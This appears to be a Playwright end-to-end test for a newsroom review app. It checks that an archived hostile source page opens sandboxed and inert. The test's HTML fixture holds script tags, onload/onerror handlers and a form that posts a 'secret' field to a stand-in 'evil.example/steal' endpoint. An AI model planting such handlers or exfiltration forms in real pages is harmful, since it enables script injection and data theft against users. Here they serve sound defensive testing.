// The source archive in a real Chromium (issue 15, point 6): a hostile page — scripts, an inline
// handler, a form — archived for a cited source opens from the reviewer's panel (« archivé le … »),
// shows its text, and runs nothing: no script, no handler, no form sent (sandboxed copy).
import { randomUUID } from 'node:crypto';
import { expect, test, type Page } from '@playwright/test';
import pg from 'pg';
import { browserAs, createNewsroom, sentencesOf } from '../fixtures/newsroom';

const panelOf = (page: Page) => page.getByRole('complementary', { name: 'Phrase sélectionnée' });

const HOSTILE = `<!DOCTYPE html><html><head><title>Piège</title>
<script>window.__pwned = 'script'</script></head>
<body onload="window.__pwned = 'onload'"><h1>Rapport archivé</h1>
<img src="x" onerror="window.__pwned = 'onerror'">
<form action="https://evil.example/steal" method="post"><input name="secret" value="1"><button id="send">Envoyer</button></form>
<script>document.body.dataset.ran = 'yes'</script></body></html>`;

test('an archived hostile page opens from the panel, inert', async ({ browser }) => {
  const room = await createNewsroom();
  const { reviewer } = room.members;
  const [sentence] = (await sentencesOf(reviewer, room.articleId)).filter(
    (s) => s.kind === 'sentence',
  );
  const url = `https://www.example.org/piege-${randomUUID()}`;
  // What the archive's worker would have stored for that address (the fetch itself is tested
  // against a local server in tests/integration/source-archive.test.ts).
  const db = new pg.Client({ connectionString: process.env.E2E_DATABASE_URL });
  await db.connect();
  const body = Buffer.from(HOSTILE);
  await db.query(
    `INSERT INTO source_snapshots (id, team_id, url, status, content_type, title, text, sha256, size, body, fetched_at)
     VALUES ($1, $2, $3, 'archived', 'text/html; charset=utf-8', 'Piège', 'Rapport archivé', $4, $5, $6, now())`,
    [randomUUID(), room.teamId, url, 'f'.repeat(64), body.byteLength, body],
  );
  await db.end();
  const put = await reviewer.api.put(`/api/v1/sentences/${sentence!.id}/verdict`, {
    data: { rating: 'false', sources: [{ url, title: 'Rapport piégé' }] },
  });
  expect(put.status()).toBe(200);
  const submit = await reviewer.api.post(`/api/v1/sentences/${sentence!.id}/verdict/submit`);
  expect(submit.status()).toBe(200);

  // The editor reviews it: the submitted verdict's sources say where their copies are.
  const { context, page } = await browserAs(browser, room.members.editor);
  await page.goto(`/articles/${room.articleId}`);
  await page.locator(`#unit-${sentence!.id}`).click();
  const link = panelOf(page).getByRole('link', { name: /^archivé le / });
  await expect(link).toBeVisible();
  const [copy] = await Promise.all([context.waitForEvent('page'), link.click()]);
  const requests: string[] = [];
  copy.on('request', (request) => requests.push(request.url()));
  await copy.waitForLoadState('load');
  await expect(copy.getByRole('heading', { name: 'Rapport archivé' })).toBeVisible();
  expect(await copy.evaluate(() => (window as { __pwned?: string }).__pwned)).toBeUndefined();
  expect(await copy.evaluate(() => document.body.dataset.ran)).toBeUndefined();
  // The form cannot be sent: a sandboxed document has no form submission.
  await copy.locator('#send').click();
  await copy.waitForTimeout(300);
  expect(requests.filter((r) => r.startsWith('https://evil.example'))).toEqual([]);
  expect(copy.url()).toMatch(/\/api\/v1\/snapshots\/[0-9a-f-]+\/copy$/);
  await context.close();
  await room.dispose();
});
